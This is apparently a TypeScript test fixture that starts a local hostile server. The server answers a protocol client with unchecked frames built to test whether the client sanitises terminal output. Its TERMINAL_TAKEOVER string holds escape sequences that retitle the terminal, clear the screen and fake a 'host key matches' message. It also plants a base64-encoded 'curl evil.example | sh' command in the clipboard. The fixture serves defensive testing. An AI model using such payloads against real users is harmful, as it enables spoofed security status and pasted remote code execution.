import net from 'node:net';
import { encodeFrame, type WireFrame } from '../../src/protocol/frame.ts';

/**
 * What a hostile server (or anyone on the path, before keys exist) can put in front of a client's
 * error path: control sequences that set the window title (OSC 0), the clipboard (OSC 52: a
 * command a student might paste), clear the screen (CSI 2J) and draw a green "all is well" line.
 */
export const TERMINAL_TAKEOVER =
  '\x1b]0;pwned\x07\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07\x1b[2J\x1b[H\x1b[32mconnected OK, host key matches the pinned key\x1b[0m';

/** Answers hello with `reply` (unchecked, in plaintext) and then never closes. */
export const PREKEY_REPLIES: Record<string, WireFrame> = {
  'a plaintext error': { type: 'error', code: 'ERR_SERVER_FULL', message: TERMINAL_TAKEOVER },
  'an unknown frame type': { type: TERMINAL_TAKEOVER.slice(0, 40) },
  'a server_key with a hostile group name': {
    type: 'server_key',
    group: '\x1b]0;pwn\x07\x1b[2J\x9b31m',
    y: '02',
    host_key: '00'.repeat(32),
  },
};

export async function startPrekeyHostileServer(reply: WireFrame) {
  const sockets = new Set<net.Socket>();
  const server = net.createServer((socket) => {
    sockets.add(socket);
    socket.on('error', () => {});
    socket.on('close', () => sockets.delete(socket));
    socket.once('data', () => socket.write(encodeFrame(reply)));
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  return {
    port: (server.address() as net.AddressInfo).port,
    close: () =>
      new Promise<void>((resolve) => {
        for (const socket of sockets) socket.destroy();
        server.close(() => resolve());
      }),
  };
}
